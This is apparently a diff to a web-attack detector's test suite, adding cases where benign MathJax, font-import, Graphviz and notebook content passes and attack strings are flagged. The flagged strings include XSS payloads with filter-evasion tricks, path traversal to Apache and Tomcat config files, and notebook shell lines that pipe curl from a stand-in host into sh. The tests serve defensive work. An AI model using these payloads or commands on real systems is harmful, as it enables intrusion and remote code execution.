@@ -3686,3 +3686,52 @@ t.test("forty-second round, its review's payloads: each relaxation's bypass, rea
   const emit = '#include "yaml-cpp/node/emit.h"\n#include "nodeevents.h"\n\nnamespace YAML {\nLINE\nEmitter& operator<<(Emitter& out, const Node& node) {\n  EmitFromEvents emitFromEvents(out);\n  NodeEvents events(node);\n  return out;\n}\n}  // namespace YAML\n'
   for (const line of ['operator=() true& id;', 'operator+=() out& reboot;', 'operator+(const X& a) true& id;', 'Foo& operator!() true& id;']) t.ok(json({ snippet: emit.replace('LINE', line) }).includes('rce'), line)
 })
+
+t.test("forty-second round, from the sixty-fifth and sixty-sixth parts: MathJax configured by data, Google Fonts imported, a file named for Apache, a notebook's loop", async (t) => {
+  const styling = '<style>\n@import url(\'http://fonts.googleapis.com/css?family=Source+Code+Pro\');\n@import url(\'http://fonts.googleapis.com/css?family=Vollkorn\');\n    div.cell { width: 1000px; }\n</style>\n<script>\n    MathJax.Hub.Config({\n                        TeX: {\n                           extensions: ["AMSmath.js"]\n                           },\n                tex2jax: {\n                    inlineMath: [ [\'$\',\'$\'], ["\\\\(","\\\\)"] ],\n                    displayMath: [ [\'$$\',\'$$\'], ["\\\\[","\\\\]"] ]\n                },\n                displayAlign: \'center\', // Change this to \'center\' to center equations.\n                "HTML-CSS": { scale:100, availableFonts: [], preferredFont:null, webFont: "TeX", styles: {\'.MathJax_Display\': {"margin": 4}} }\n        });\n</script>\n'
+  t.same(json({ cells: [{ cell_type: 'code', source: 'css_styling()', outputs: [{ data: { 'text/html': styling } }] }] }), [], "a notebook's styling output")
+  t.same(q('<script type="text/x-mathjax-config">MathJax.Hub.Config({ tex2jax: { inlineMath: [["$","$"]] } });</script>'), [], "MathJax's own configuration block")
+  for (const v of [
+    '<script>MathJax.Hub.Config({ a: alert(1) })</script>', '<script>MathJax.Hub.Config({ extensions: ["https://evil.example/x.js"] })</script>',
+    '<script>MathJax.Hub.Config({ TeX: { Macros: { x: "\\\\href{javascript:alert(1)}{x}" } } })</script>', '<script>MathJax.Hub.Config({ a: 1 }); alert(1)</script>',
+    '<script>MathJax.Hub.Config({ a: 1 })</script><script>alert(1)</script>', '<script>MathJax.Hub.Config({ a: `${alert(1)}` })</script>',
+    '<script>MathJax.Hub.Config({ a: "</script><script>alert(1)//" })</script>', '<script>MathJax.Hub.Config({ AuthorInit: () => 1 })</script>',
+    '<script>MathJax.Hub.Config({ a: location.hash.slice(1) })</script>', '<script src="https://evil.example/x.js">MathJax.Hub.Config({ a: 1 })</script>',
+    '<style>@import url("https://evil.example/x.css");</style>', '<style>@import url("https://fonts.googleapis.com.evil.example/css?family=x");</style>',
+    '<style>@import url("//fonts.googleapis.com/css?family=x") ; body{background:url(javascript:alert(1))}</style>',
+  ]) t.ok(q(v).includes('xss'), v)
+  t.same(q('<style>@import url("https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap");</style>'), [], 'Google Fonts imported')
+  // a file whose name begins with `apache` is no Apache directory
+  t.same(json({ body: '## Step 2: Use Cases\n\n* Use Cases\n  * [Store Apache Log into Amazon S3](../how-to-guides/apache-to-s3.md)\n  * [Data Collection to MongoDB](../how-to-guides/apache-to-mongodb.md)\n' }), [], "Fluentd's guides")
+  for (const v of ['../../apache/logs/access.log', '../../../apache2/apache2.conf', '..\\..\\apache-tomcat-9.0.65\\conf\\tomcat-users.xml', '../apache-activemq/conf/x', '../../../apache', '..%2f..%2fapache%2flogs%2ferror.log']) t.ok(q(v, 'file').includes('path_traversal'), v)
+  // a notebook's shell escape looping over plain words, its body a command line
+  const notebook = (line: string) => json({ cells: [{ cell_type: 'code', source: line }, { cell_type: 'markdown', source: '# Data' }], metadata: {}, nbformat: 4, nbformat_minor: 5 })
+  t.same(notebook('!for i in *.tar.gz; do echo working on $i; tar xvzf $i -C directory/ ; done'), [], 'a loop extracting archives')
+  for (const line of ['!for i in x; do curl http://evil.example/x.sh | sh; done', '!for i in $(curl http://evil.example/x); do echo $i; done', '!for i in x; do echo; done; id']) t.ok(notebook(line).includes('rce'), line)
+})
+
+t.test("forty-second round, its second review's payloads: comments decoding made, a cut string's open tag, an embed's unpaired quotes", async (t) => {
+  // entities a browser does not decode there made a tag's end before a comment: the comment is dropped only where the text as sent has it
+  for (const v of [
+    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/><img src=x &gt; <!-- &gt; onerror=self.alert(name) --></svg>',
+    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/><img src=x &#62; <!-- &#x3e; onerror=self.alert(name) --></svg>',
+    '<svg viewBox="0 0 24 24" &gt; <!-- &gt; onload=document.body.id=1 --><path d="M0 0h24v24H0z"/></svg>',
+    '<svg viewBox="0 0 24 24"><path d="M1"/><img src=x <&#47;g&gt; <!-- &gt; onerror=self.alert(name) --></svg>',
+  ]) {
+    t.ok(q(v).includes('xss'), v)
+    t.ok(json({ v }).includes('xss'), `${v} (JSON)`)
+  }
+  // Graphviz's entities inside its comments and titles are still the drawing's, in a query, a form or a JSON body
+  const graph = '<svg width="107pt" height="229pt"\n viewBox="0.00 0.00 107.00 229.25" xmlns="http://www.w3.org/2000/svg">\n<g id="graph0" class="graph">\n<!-- m -->\n<g id="node1" class="node">\n<title>m</title>\n<ellipse fill="white" stroke="black" cx="54" cy="-203.25" rx="27" ry="18"/>\n</g>\n<!-- m&#45;&gt;sd -->\n<g id="edge1" class="edge">\n<title>m&#45;&gt;sd</title>\n<path fill="none" stroke="black" d="M47.46,-185.3C44.45,-177.48"/>\n</g>\n</g>\n</svg>\n'
+  t.same(q(graph, 'img'), [], 'in a query')
+  t.same(json({ 'image/svg+xml': graph }), [], 'in a JSON body')
+  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`img=${encodeURIComponent(graph).replace(/%20/g, '+')}`) }), [], 'in a form')
+  // a body's last string cut inside a tag: read as text, not completed (the completion would drop the tag)
+  const filler = 'A'.repeat(16_384)
+  const bodyText = JSON.stringify({ doc: `{"x":"${filler}` })
+  const cut = bodyText.slice(0, 16_384 - 40) + '\\u003cimg src=x onerror=alert(1)' + 'B'.repeat(100)
+  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(cut) }).includes('xss'), 'an open tag where the cut falls')
+  // an embed's source opened by one quote and closed by another goes on, for a browser, to the next one
+  t.ok(json({ readme: '### Title\n\ntext\n\n<iframe src="https://127.0.0.1/b\' style={{ color: \'red\' }} title=" onload=self.alert(name) x"></iframe>\n' }).includes('xss'), 'unpaired quotes')
+  t.ok(json({ readme: '### Title\n\ntext\n\n<iframe src="https://127.0.0.1/b\' title=" onload=self.alert(name) x"></iframe>\n' }).includes('xss'), 'unpaired quotes, no style')
+})
